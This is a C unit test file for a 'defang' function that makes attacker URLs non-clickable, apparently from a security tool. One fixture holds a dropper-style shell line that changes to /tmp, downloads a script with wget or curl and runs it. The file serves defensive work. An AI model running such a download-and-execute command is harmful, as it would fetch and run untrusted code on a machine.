/* URLs of attackers lose what makes a link of them, and nothing else. */
#include "ask/plan.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>

#include <cmocka.h>

static void check(const char *text, bool is_host, const char *expected)
{
    char *defanged = defang(text, is_host);
    assert_non_null(defanged);
    assert_string_equal(defanged, expected);
    free(defanged);
}

static void a_url_is_defanged_in_scheme_and_host_only(void **state)
{
    (void)state;
    check("http://192.0.2.9/a.b/x.sh", false, "hxxp://192[.]0[.]2[.]9/a.b/x.sh");
    check("HTTPS://Example.net:8080/", false, "HXXPS://Example[.]net:8080/");
    check("hTtp://a.b", false, "hXxp://a[.]b");
    check("tftp://192.0.2.9/x", false, "tftp://192[.]0[.]2[.]9/x");
    check("http://[2001:db8::9]/x", false, "hxxp://[2001:db8::9]/x");
}

static void every_url_of_a_line_is_defanged(void **state)
{
    (void)state;
    check("cd /tmp; wget http://a.b/x.sh||curl -O http://c.d;./x.sh", false,
          "cd /tmp; wget hxxp://a[.]b/x.sh||curl -O hxxp://c[.]d;./x.sh");
    check("http://a.b/?u=http://c.d/", false, "hxxp://a[.]b/?u=hxxp://c[.]d/");
}

static void a_text_without_url_stays(void **state)
{
    (void)state;
    check("", false, "");
    check("cat /proc/1.2", false, "cat /proc/1.2");
    check("http:/a.b", false, "http:/a.b");
    check("定点.\x1b", false, "定点.\x1b");
}

static void what_is_no_scheme_is_no_obstacle(void **state)
{
    (void)state;
    check("://", false, "://");
    check("1://a.b://c.d", false, "1://a[.]b://c[.]d");
    check("x://http://a.b/", false, "x://hxxp://a[.]b/");
    check("http://http://a.b/", false, "hxxp://hxxp://a[.]b/");
    check("://://http://a.b", false, "://://hxxp://a[.]b");
    check("h://a.b", false, "h://a[.]b");
    check("http+http://a.b", false, "http+hxxp://a[.]b");
}

static void a_hidden_password_is_a_part_of_the_url(void **state)
{
    (void)state;
    check("http://a:(hidden, 12)@b.c/d.e", false, "hxxp://a:(hidden, 12)@b[.]c/d.e");
    check("http://（非表示、3文字）@b.c", false, "hxxp://（非表示、3文字）@b[.]c");
    check("http://(hidden, 1)(hidden, 2)@b.c", false, "hxxp://(hidden, 1)(hidden, 2)@b[.]c");
    check("http://a(hidden)b.c", false, "hxxp://a(hidden)b.c");
}

static void a_host_loses_its_dots(void **state)
{
    (void)state;
    check("dl.example.net", true, "dl[.]example[.]net");
    check("", true, "");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_url_is_defanged_in_scheme_and_host_only),
        cmocka_unit_test(every_url_of_a_line_is_defanged),
        cmocka_unit_test(a_text_without_url_stays),
        cmocka_unit_test(what_is_no_scheme_is_no_obstacle),
        cmocka_unit_test(a_hidden_password_is_a_part_of_the_url),
        cmocka_unit_test(a_host_loses_its_dots),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
